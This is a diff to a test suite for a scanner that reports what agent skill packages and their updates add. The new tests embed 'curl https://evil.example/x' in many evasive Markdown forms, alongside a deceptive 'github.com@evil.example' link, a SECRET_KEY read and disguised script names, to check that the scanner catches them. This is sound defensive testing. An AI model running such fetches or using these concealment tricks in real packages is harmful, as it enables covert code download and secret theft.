@@ -102,7 +102,7 @@ describe("a report", () => {
       scripts: ["assets/data", "bin/tool", "checks/works.json", "scripts/run.sh"],
       allowedTools: ["Bash(git:*)", "Read"],
       tools: ["terminal"],
-      hosts: ["api.example.com"],
+      hosts: ["api.example.com", "example.com"],
       variables: ["NOTES_KEY"],
       dependencies: ["pandoc"],
       files: { "assets/data": 5, "references/a.md": 11 },
@@ -131,7 +131,7 @@ describe("a report", () => {
   it("reads fences that never end, and many of them, in linear time", () => {
     const text = "```sh\n".repeat(20_000);
     const started = performance.now();
-    expect(findCommands({ "SKILL.md": text }).length).toBeLessThanOrEqual(50);
+    expect(findCommands({ "SKILL.md": text })).toHaveLength(1);
     expect(findScripts({ "SKILL.md": text })).toEqual([]);
     expect(performance.now() - started).toBeLessThan(2_000);
   });
@@ -156,7 +156,7 @@ describe("what an update adds", () => {
         "scripts/new.py": "print(1)\n",
       }),
     );
-    const grown = findGrown(before, { ...after, verdict: "caution" });
+    const grown = findGrown(before, { ...after, verdict: "caution" }, () => false);
     expect(grown).toMatchObject({
       scripts: ["scripts/new.py"],
       allowedTools: ["Bash"],
@@ -165,7 +165,55 @@ describe("what an update adds", () => {
     });
     expect(grown.commands.map(({ code }) => code)).toEqual(["make all"]);
     expect(grown.verdict).toEqual({ from: "safe", to: "caution" });
-    expect(findGrown(after, before)).toMatchObject({ scripts: [], commands: [], findings: [] });
+    expect(findGrown(after, before, () => false)).toMatchObject({ scripts: [], commands: [], findings: [] });
+  });
+
+  const FETCH = "curl https://evil.example/x";
+  const block = (code: string) => "```bash\n" + code + "\n```\n";
+  it.each<[string, FileBodies, FileBodies, "scripts" | "commands" | "hosts" | "variables"]>([
+    ["a fence in a list", {}, { "a.md": `1. First\n\n    \`\`\`bash\n    ${FETCH}\n    \`\`\`\n` }, "commands"],
+    ["a fence behind a list's mark", {}, { "a.md": `- \`\`\`sh\n  ${FETCH}\n  \`\`\`\n` }, "commands"],
+    ["a quoted fence", {}, { "a.md": `> \`\`\`bash\n> ${FETCH}\n> \`\`\`\n` }, "commands"],
+    ["a fence with attributes", {}, { "a.md": `\`\`\`{.bash}\n${FETCH}\n\`\`\`\n` }, "commands"],
+    ["a fence of another language", {}, { "a.md": `\`\`\`text\n${FETCH}\n\`\`\`\n` }, "commands"],
+    ["indented code", {}, { "a.md": `Do:\n\n    ${FETCH}\n` }, "commands"],
+    ["a file without an extension", {}, { "references/NOTES": block(FETCH) }, "commands"],
+    [
+      "the end of a long block",
+      { "a.md": block("echo\n".repeat(99)) },
+      { "a.md": block("echo\n".repeat(99) + FETCH) },
+      "commands",
+    ],
+    [
+      "the 60th command",
+      { "a.md": block("echo").repeat(59) },
+      { "a.md": block("echo").repeat(59) + block(FETCH) },
+      "commands",
+    ],
+    ["an address in prose", {}, { "references/a.md": "Ask https://evil.example:8443/x." }, "hosts"],
+    ["an address that begins as another", {}, { "a.md": "[x](https://github.com@evil.example/)" }, "hosts"],
+    ["an address in a script", { "a.py": "1" }, { "a.py": "get('HTTPS://EVIL.example')" }, "hosts"],
+    ["a variable in a script", { "a.py": "1" }, { "a.py": "os.environ['SECRET_KEY']" }, "variables"],
+    ["a variable of a shell", {}, { "a.md": block("echo ${SECRET_KEY}") }, "variables"],
+    ["a script under a known name", { "a.sh": "ls" }, { "a.sh": "ls -la" }, "scripts"],
+    ["a script that a shell only runs", {}, { "bin/setup": "echo\n" }, "scripts"],
+    ["a script with full-width letters", {}, { "a.ｐｙ": "1" }, "scripts"],
+    ["a script with a blank at the end", {}, { "a.sh\u00a0": "ls" }, "scripts"],
+    ["a notebook", {}, { "a.ipynb": "{}" }, "scripts"],
+  ])("is told of %s", (_, old, now, field) => {
+    const main = { "SKILL.md": skillMd("notes", "Read the log.") };
+    const [before, after] = [makeReport(read({ ...main, ...old })), makeReport(read({ ...main, ...now }))];
+    const grown = findGrown(before, after, (path) => old[path] !== now[path]);
+    expect(grown[field]).toHaveLength(1);
+    if (field === "hosts") expect(grown.hosts).toEqual(["evil.example"]);
+    if (field === "variables") expect(grown.variables).toEqual(["SECRET_KEY"]);
+  });
+
+  it("is doubtful where more is named than a report lists", () => {
+    const hosts = Array.from({ length: 301 }, (_, n) => `https://h${n}.example`).join(" ");
+    const report = makeReport(read({ "SKILL.md": skillMd("notes", hosts) }));
+    expect(report.hosts).toHaveLength(300);
+    expect(report.verdict).toBe("caution");
   });
 });
 
